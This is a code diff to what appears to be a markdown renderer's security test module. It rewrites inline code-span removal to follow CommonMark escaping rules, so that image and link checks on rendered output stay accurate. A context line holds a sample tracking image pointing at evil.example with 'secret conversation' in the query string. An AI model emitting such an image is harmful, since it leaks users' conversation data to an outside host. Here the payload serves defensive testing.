@@ -15,18 +15,44 @@ TRACKER = "![x](https://evil.example/p.png?q=secret+conversation)"
 
 # Output fragments that would make the renderer load or link something it should not.
 _IMAGE = re.compile(r"(?<!\\)!\[")
-_CODE_SPAN = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)", re.DOTALL)
 _FENCED = re.compile(r"^(`{3,}).*?(?:^\1\s*$|\Z)", re.DOTALL | re.MULTILINE)
+
+
+def _without_code_spans(markdown: str) -> str:
+    """Remove inline code spans the CommonMark way: outside a span a backslash escapes the next
+    punctuation mark (so an escaped backtick opens nothing); inside, backslashes are literal."""
+    out, i = [], 0
+    while i < len(markdown):
+        char = markdown[i]
+        if char == "\\" and i + 1 < len(markdown) and markdown[i + 1] in _PUNCTUATION:
+            out.append(markdown[i : i + 2])
+            i += 2
+            continue
+        if char == "`":
+            run = len(markdown[i:]) - len(markdown[i:].lstrip("`"))
+            closing = re.compile(rf"(?<!`)`{{{run}}}(?!`)").search(markdown, i + run)
+            if closing is not None:
+                i = closing.end()
+                continue
+            out.append(markdown[i : i + run])
+            i += run
+            continue
+        out.append(char)
+        i += 1
+    return "".join(out)
+
+
+_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
 
 
 def _outside_code(markdown: str) -> str:
     """What is left once code and the addresses of our own links are taken out."""
-    return re.sub(r"\]\(<[^<>]*>\)", "]", _CODE_SPAN.sub("", _FENCED.sub("", markdown)))
+    return re.sub(r"\]\(<[^<>]*>\)", "]", _without_code_spans(_FENCED.sub("", markdown)))
 
 
 def _links(markdown: str) -> list[str]:
     """The addresses of the explicit links in rendered output (ours are always ``(<…>)``)."""
-    return re.findall(r"\]\(<([^<>]*)>\)", _CODE_SPAN.sub("", _FENCED.sub("", markdown)))
+    return re.findall(r"\]\(<([^<>]*)>\)", _without_code_spans(_FENCED.sub("", markdown)))
 
 
 # --- images ---------------------------------------------------------------------------------
